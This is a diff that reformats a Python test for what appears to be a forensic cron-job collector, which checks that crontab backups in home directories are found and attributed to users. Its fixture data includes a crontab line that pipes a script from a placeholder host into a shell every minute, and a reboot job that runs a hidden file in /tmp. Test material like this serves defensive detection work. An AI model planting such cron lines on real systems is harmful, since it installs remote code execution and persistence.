@@ -6,16 +6,20 @@ from tests.conftest import MakeRoot, run_collect
 
 
 def test_backups_in_every_home(make_root: MakeRoot) -> None:
-    root = make_root({
-        "home/alice/.cache/crontab/crontab.bak": "* * * * * curl -s http://x | sh\n",
-        "root/.cache/crontab/crontab.www-data.bak": "@reboot /tmp/.x\n",
-        "root/.cache/crontab/notes.txt": "not a backup\n",
-    })
+    root = make_root(
+        {
+            "home/alice/.cache/crontab/crontab.bak": "* * * * * curl -s http://x | sh\n",
+            "root/.cache/crontab/crontab.www-data.bak": "@reboot /tmp/.x\n",
+            "root/.cache/crontab/notes.txt": "not a backup\n",
+        }
+    )
     report = run_collect(root)
     assert report.issues == ()
     jobs = {j.evidence.path: j for j in report.jobs}
-    assert sorted(jobs) == ["/home/alice/.cache/crontab/crontab.bak",
-                            "/root/.cache/crontab/crontab.www-data.bak"]
+    assert sorted(jobs) == [
+        "/home/alice/.cache/crontab/crontab.bak",
+        "/root/.cache/crontab/crontab.www-data.bak",
+    ]
     alice = jobs["/home/alice/.cache/crontab/crontab.bak"]
     assert alice.run_as == "alice"
     assert alice.effective.runs is False
